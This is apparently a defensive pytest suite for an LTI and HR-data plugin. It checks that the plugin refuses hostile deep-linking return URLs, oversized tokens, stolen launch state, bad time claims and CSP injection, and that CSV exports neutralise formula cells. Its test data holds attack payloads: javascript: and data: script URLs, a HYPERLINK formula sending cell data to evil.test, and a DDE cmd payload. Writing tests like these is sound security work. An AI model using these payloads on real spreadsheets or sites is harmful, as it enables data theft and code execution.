"""Trust boundaries, attacked as an outsider, a broken platform or poisoned HRIS data would: deep-linking
return URLs, security headers, size limits, the foreign browser, refused launches, time claims, CSV cells,
Workday Basic credentials over http. Each asserts what was refused and that nothing was stored or signed."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import date

import pytest

from plugin import create_app
from plugin.db import db
from plugin.domain.impact import Cell as ImpactCell
from plugin.domain.impact import ImpactReport, ImpactSettings, Interval
from plugin.domain.spreadsheet import csv_text, safe_cell
from plugin.domain.suppression import Cell as InsightCell
from plugin.lti.runtime import launch_store
from plugin.services import impact, insights
from plugin.services.admin_login import session_user
from tests.admin_world import add_employee, add_pair, add_programme
from tests.lti_support import BASE, CLAIM, INSTRUCTOR, launch, login, reason

DL = "https://purl.imsglobal.org/spec/lti-dl/claim/deep_linking_settings"


@pytest.fixture
def browser(tool):
    """A browser talking to the tool on its https URL."""
    return tool.test_client()


def launches_in_redis(tool) -> list:
    store = launch_store(tool)
    return list(store.redis.scan_iter(match=store.prefix + ":launch:*"))


def deep_link(client, platform, return_url: str):
    state, nonce = login(client, platform)
    claims = platform.claims(
        nonce,
        roles=[INSTRUCTOR],
        **{
            CLAIM + "message_type": "LtiDeepLinkingRequest",
            CLAIM + "resource_link": None,
            DL: {
                "deep_link_return_url": return_url,
                "accept_types": ["ltiResourceLink"],
                "accept_presentation_document_targets": ["iframe"],
            },
        },
    )
    response = launch(client, platform.sign(claims), state)
    assert response.status_code == 303, reason(response)
    return response.headers["Location"]


@pytest.mark.parametrize(
    "return_url",
    [
        "https://evil.test/dl/return",
        "javascript:alert(document.cookie)",
        "http://lms.test/dl/return",  # the right host, in clear
        "https://lms.test.evil.test/dl/return",
        "//evil.test/dl/return",
        "data:text/html,<script>alert(1)</script>",
    ],
)
def test_untrusted_deep_linking_return_urls_are_refused_before_anything_is_signed(org, browser, platform, return_url):
    where = deep_link(browser, platform, return_url)
    page = browser.get(where, base_url=BASE)
    assert page.status_code == 400 and reason(page) == "return_url_not_trusted"
    # this browser's real CSRF token: the view itself must refuse the return URL
    with browser.session_transaction(base_url=BASE) as session:
        token = session.setdefault("csrf_token", "this-browsers-token")
    answer = browser.post(where, base_url=BASE, data={"item": "0", "csrf_token": token})
    assert answer.status_code == 400 and reason(answer) == "return_url_not_trusted"
    assert 'name="JWT"' not in answer.get_data(as_text=True) and return_url not in answer.get_data(as_text=True)


def test_a_host_the_admin_added_is_trusted(tool, platform, jwks_mock):
    from plugin.services.organisations import create_organisation

    org = create_organisation(db.session, "acme", "Acme")
    db.session.commit()
    platform.register(db.session, organisation_ids=[org.id], trusted_hosts=("courses.acme.test",))
    client = tool.test_client()
    from plugin.services.access import grant
    from plugin.services.tenant import Tenant

    grant(Tenant(db.session, org.id), "ada@example.com", "hr_admin", None, actor="test")
    db.session.commit()
    where = deep_link(client, platform, "https://courses.acme.test/dl/return")
    page = client.get(where, base_url=BASE).get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    answer = client.post(where, base_url=BASE, data={"item": "0", "csrf_token": token}).get_data(as_text=True)
    assert 'action="https://courses.acme.test/dl/return"' in answer and 'name="JWT"' in answer


def test_http_return_urls_only_on_loopback_outside_production(tool, settings):
    from plugin.lti.deep_linking import check_return_url
    from plugin.lti.rejection import LaunchRejected
    from plugin.lti.tool_conf import RegistrationSnapshot

    row = RegistrationSnapshot(
        1,
        "http://127.0.0.1:8080",
        "c",
        "http://127.0.0.1:8080/auth",
        "http://127.0.0.1:8080/token",
        None,
        None,
        None,
        (),
    )

    class Conf:
        def row(self, iss, client_id):
            return row

    claims = {"iss": row.issuer, "aud": "c", DL: {"deep_link_return_url": "http://127.0.0.1:8080/return"}}
    assert check_return_url(Conf(), claims, production=False) == "http://127.0.0.1:8080/return"
    with pytest.raises(LaunchRejected):
        check_return_url(Conf(), claims, production=True)


def test_every_page_carries_a_strict_policy_and_inline_scripts_carry_its_nonce(org, browser, platform):
    login_page = browser.post(
        "/lti/login",
        base_url=BASE,
        data={
            "iss": platform.issuer,
            "login_hint": "u",
            "client_id": platform.client_id,
            "target_link_uri": BASE + "/lti/launch",
        },
    )
    policy = login_page.headers["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    assert "frame-ancestors 'self' https://lms.test" in policy and "object-src 'none'" in policy
    assert login_page.headers["X-Content-Type-Options"] == "nosniff"
    assert login_page.headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
    home = browser.get("/", base_url=BASE)
    assert "frame-ancestors 'self';" in home.headers["Content-Security-Policy"] + ";"
    where = deep_link(browser, platform, "https://lms.test/dl/return")
    page = browser.get(where, base_url=BASE).get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    back = browser.post(where, base_url=BASE, data={"item": "0", "csrf_token": token})
    nonce = re.search(r"'nonce-([^']+)'", back.headers["Content-Security-Policy"]).group(1)
    scripts = re.findall(r"<script([^>]*)>", back.get_data(as_text=True))
    assert scripts and all(f'nonce="{nonce}"' in attrs for attrs in scripts)


def test_no_template_has_an_inline_handler_or_an_unnamed_inline_script():
    from pathlib import Path

    for path in Path("plugin/web/templates").rglob("*.html"):
        text = path.read_text()
        assert not re.search(r"\son[a-z]+=", text), path
        for attrs in re.findall(r"<script([^>]*)>", text):
            assert "src=" in attrs or "csp_nonce()" in attrs, path


def test_an_oversized_id_token_is_refused_before_parsing_and_nothing_is_kept(org, browser, platform):
    state, nonce = login(browser, platform)
    token = platform.sign(platform.claims(nonce, padding="x" * 40_000))  # validly signed, 40 KB
    response = launch(browser, token, state)
    assert response.status_code == 413 and reason(response) == "token_too_large"
    assert launches_in_redis(browser.application) == []
    huge = launch(browser, platform.sign(platform.claims(nonce, padding="x" * 1_100_000)), state)
    assert huge.status_code == 413 and launches_in_redis(browser.application) == []
    state_kept = launch(browser, platform.sign(platform.claims(nonce)), state)  # the state was not spent
    assert state_kept.status_code == 303


def test_claims_kept_for_deep_linking_are_only_those_flipside_reads(org, browser, platform):
    state, nonce = login(browser, platform)
    claims = platform.claims(
        nonce,
        roles=[INSTRUCTOR],
        junk={"a": "b" * 5000},
        **{
            CLAIM + "message_type": "LtiDeepLinkingRequest",
            CLAIM + "resource_link": None,
            CLAIM + "custom": {"note": "y" * 9000},
            DL: {
                "deep_link_return_url": "https://lms.test/dl/return",
                "accept_types": ["ltiResourceLink"],
                "accept_presentation_document_targets": ["iframe"],
            },
        },
    )
    response = launch(browser, platform.sign(claims), state)
    assert response.status_code == 303, reason(response)
    [key] = launches_in_redis(browser.application)
    kept = launch_store(browser.application).launch(key.decode().rsplit(":", 1)[1])
    assert "junk" not in kept and len(kept[CLAIM + "custom"]["note"]) == 2048
    assert kept[DL]["deep_link_return_url"] == "https://lms.test/dl/return"


def test_a_foreign_browsers_post_does_not_spend_the_real_browsers_state(org, tool, browser, platform):
    state, nonce = login(browser, platform)
    token = platform.sign(platform.claims(nonce))
    attacker = tool.test_client()
    stolen = launch(attacker, token, state)
    assert stolen.status_code == 403 and reason(stolen) == "state_browser_mismatch"
    attacker.set_cookie("flipside_lti_browser", "guessed", domain="tool.test", path="/lti/")
    assert reason(launch(attacker, token, state)) == "state_browser_mismatch"
    assert launches_in_redis(tool) == []
    assert launch(browser, token, state).status_code == 303  # the real browser still gets in


@pytest.mark.parametrize(
    "roles,email",
    [
        (["http://purl.imsglobal.org/vocab/lis/v2/membership#Mentor"], "ada@example.com"),
        (["http://evil.test/x#Administrator"], "ada@example.com"),
        (["http://purl.imsglobal.org/vocab/lis/v2/membership#Learner"], "nobody@example.com"),
    ],
)
def test_a_launch_refused_after_validation_forgets_its_record(org, tool, browser, platform, roles, email):
    state, nonce = login(browser, platform)
    response = launch(browser, platform.sign(platform.claims(nonce, roles=roles, email=email)), state)
    assert response.status_code == 403 and launches_in_redis(tool) == []
    assert browser.get("/me/", base_url=BASE).status_code == 401


@pytest.mark.parametrize(
    "field,value", [("exp", "9999999999"), ("iat", "1"), ("exp", True), ("iat", None), ("nbf", "0")]
)
def test_time_claims_must_be_json_numbers(org, browser, platform, field, value):
    state, nonce = login(browser, platform)
    claims = {**platform.claims(nonce), field: value}
    if value is None:
        claims[field] = [1]
    response = launch(browser, platform.sign(claims), state)
    assert response.status_code == 401  # True is 1 to PyJWT: then refused as long expired
    assert reason(response) in ("bad_claims", f"{field}_missing", "token_expired")
    assert launches_in_redis(browser.application) == []


def test_the_global_body_limit_and_the_larger_csv_import_limit(app, client, make_org, session):
    tenant = make_org("acme")
    programme = add_programme(tenant)
    session.commit()
    with client.session_transaction() as s:
        s["user"] = session_user(tenant.organisation_id)
        s["csrf_token"] = "t"
    big_form = client.post("/admin/programmes/new?step=basics", data={"csrf_token": "t", "name": "x" * 1_200_000})
    assert big_form.status_code == 413
    rows = "work_email,languages\n" + "nobody@example.test,en\n" * 80_000  # about 1.9 MB
    upload = client.post(
        f"/admin/programmes/{programme.id}/participants/import",
        content_type="multipart/form-data",
        data={"csrf_token": "t", "file": (io.BytesIO(rows.encode()), "profiles.csv")},
    )
    assert upload.status_code == 200
    too_big = client.post(
        f"/admin/programmes/{programme.id}/participants/import",
        content_type="multipart/form-data",
        data={"csrf_token": "t", "file": (io.BytesIO(b"x" * 6_000_000), "profiles.csv")},
    )
    assert too_big.status_code == 413


FORMULAS = ['=HYPERLINK("https://evil.test/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_the_csv_writer_neutralises_formula_cells_and_keeps_numbers():
    assert all(safe_cell(f) == "'" + f for f in FORMULAS)
    cells = _cells(csv_text(["h"], [[f] for f in FORMULAS] + [[-0.05], [3], ["plain"], ["a\r=1"]]))
    assert "a\r=1" in cells  # quoted: a bare CR inside a cell does not start a new row
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells if c != "-0.05")
    assert "-0.05" in cells and "plain" in cells


def test_the_participants_export_neutralises_hris_text(app, client, make_org, session):
    tenant = make_org("acme")
    programme = add_programme(tenant)
    mentor = add_employee(tenant, 1, display_name=FORMULAS[0], department=FORMULAS[1], country="DE")
    add_pair(tenant, programme, mentor, add_employee(tenant, 2, work_email="@evil.test", job_level=8))
    session.commit()
    with client.session_transaction() as s:
        s["user"] = session_user(tenant.organisation_id)
    text = client.get(f"/admin/programmes/{programme.id}/participants.csv").get_data(as_text=True)
    cells = _cells(text)
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells and "'@evil.test" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_the_impact_and_insights_exports_neutralise_text_cells():
    interval = Interval(-0.05, -0.1, 0.02)
    cell = ImpactCell(
        group="=evil()",
        outcome="retained",
        months=12,
        status="shown",
        participants=9,
        comparison=20,
        unmatched=0,
        participant_rate=0.9,
        comparison_rate=0.95,
        absolute=interval,
        relative=interval,
    )
    report = ImpactReport(date(2025, 1, 1), date(2026, 1, 1), ImpactSettings(), [cell])
    cells = _cells(impact.impact_csv(report))
    assert "'=evil()" in cells and "-0.05" in cells  # negative lifts stay numbers
    insight = insights.InsightReport(
        by=("function",),
        threshold=5,
        cutoff=date(2026, 1, 5),
        cells=[InsightCell(("+SUM(A1)",), 7, 7, {"q1": 4.0}), replace(InsightCell(("@x",), None, None, None))],
    )
    cells = _cells(insights.to_csv(insight))
    assert "'+SUM(A1)" in cells and "'@x" in cells and "<5" in cells


def test_production_refuses_workday_basic_credentials_over_http(settings, make_org, vault):
    app = create_app(
        replace(
            settings,
            env="production",
            base_url="https://tool.example",
            secret_key="s" * 40,
            encryption_keys=settings.encryption_keys[:0] or ("Zmxp" + "c" * 39 + "=",),
        )
    )
    client = app.test_client()
    body = b"<env:Envelope/>"
    headers = {"Authorization": "Basic d29ya2RheS1pc3U6bjB0aWZ5", "Content-Type": "text/xml"}
    plain = client.post("/webhooks/workday/1", data=body, headers=headers, base_url="http://tool.example")
    assert plain.status_code == 403 and plain.json["error"]["code"] == "https_required"
    proxied = client.post(
        "/webhooks/workday/1",
        data=body,
        base_url="http://tool.example",
        headers={**headers, "X-Forwarded-Proto": "https"},
    )
    assert proxied.status_code == 401  # over https it goes on to authentication (no such connection)


def test_the_registration_dialog_may_be_framed_by_the_registering_lms_only(tool):
    page = tool.test_client().get(
        "/lti/register",
        base_url=BASE,
        query_string={"openid_configuration": "https://school.instructure.com/api/lti/security/openid-configuration"},
    )
    policy = page.headers["Content-Security-Policy"]
    assert "https://school.instructure.com" in policy.split("frame-ancestors")[1]
    injected = tool.test_client().get(
        "/lti/register", base_url=BASE, query_string={"openid_configuration": "https://a.test;script-src *"}
    )
    assert "script-src *" not in injected.headers["Content-Security-Policy"]
